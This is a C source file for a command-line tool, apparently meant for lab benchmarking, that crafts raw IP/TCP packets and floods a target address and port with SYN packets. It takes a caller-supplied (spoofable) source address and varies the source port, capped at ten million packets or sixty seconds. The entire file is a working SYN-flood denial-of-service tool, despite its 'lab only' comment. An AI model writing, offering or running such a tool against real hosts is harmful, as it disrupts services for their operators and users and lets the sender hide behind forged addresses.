/*
 * The machine's limit for injection: a raw-socket (IP_HDRINCL) loop sending a SYN with a
 * varying source port, bounded by a count AND a duration. For the bench's lab only.
 *   usage: flood SRC DST DPORT COUNT SECONDS   -> prints "sent N elapsed_s"
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static uint16_t csum(const uint8_t *p, size_t n, uint32_t s) {
  for (size_t i = 0; i + 1 < n; i += 2) s += (uint32_t)(p[i] << 8 | p[i + 1]);
  while (s >> 16) s = (s & 0xffff) + (s >> 16);
  return (uint16_t)~s;
}
static double now_s(void) { struct timespec ts; clock_gettime(CLOCK_MONOTONIC, &ts); return ts.tv_sec + ts.tv_nsec / 1e9; }

int main(int argc, char **argv) {
  if (argc != 6) { fprintf(stderr, "usage: flood SRC DST DPORT COUNT SECONDS\n"); return 2; }
  long count = atol(argv[4]);
  double secs = atof(argv[5]);
  if (count < 1 || count > 10000000 || !(secs > 0) || secs > 60) { fprintf(stderr, "count 1..1e7 and seconds (0,60] required\n"); return 2; }
  struct sockaddr_in dst = {.sin_family = AF_INET};
  uint8_t pkt[40] = {0};
  if (inet_pton(AF_INET, argv[2], &dst.sin_addr) != 1 || inet_pton(AF_INET, argv[1], pkt + 12) != 1) { fprintf(stderr, "bad address\n"); return 2; }
  memcpy(pkt + 16, &dst.sin_addr, 4);
  int fd = socket(AF_INET, SOCK_RAW, IPPROTO_TCP), one = 1;
  if (fd < 0 || setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof one) < 0) { perror("raw socket"); return 2; }
  pkt[0] = 0x45; pkt[3] = 40; pkt[6] = 0x40; pkt[8] = 64; pkt[9] = 6;
  uint8_t *t = pkt + 20;
  uint16_t dport = (uint16_t)atoi(argv[3]);
  t[2] = dport >> 8; t[3] = dport & 0xff; t[4] = 0x12; t[12] = 0x50; t[13] = 0x02; t[14] = 0xff; t[15] = 0xff;
  uint32_t pseudo = 0;
  for (int i = 12; i < 20; i += 2) pseudo += (uint32_t)(pkt[i] << 8 | pkt[i + 1]);
  pseudo += 6 + 20;
  double start = now_s(), end = start + secs;
  long sent = 0;
  while (sent < count) {
    if ((sent & 255) == 0 && now_s() >= end) break;
    uint16_t sport = (uint16_t)(1024 + sent % 64512);
    t[0] = sport >> 8; t[1] = sport & 0xff; t[16] = t[17] = 0;
    uint16_t c = csum(t, 20, pseudo);
    t[16] = c >> 8; t[17] = c & 0xff;
    if (sendto(fd, pkt, sizeof pkt, 0, (struct sockaddr *)&dst, sizeof dst) == sizeof pkt) sent++;
    else if (errno != EAGAIN && errno != ENOBUFS && errno != EINTR) { perror("sendto"); break; }
  }
  printf("sent %ld elapsed %.6f\n", sent, now_s() - start);
  close(fd);
  return 0;
}
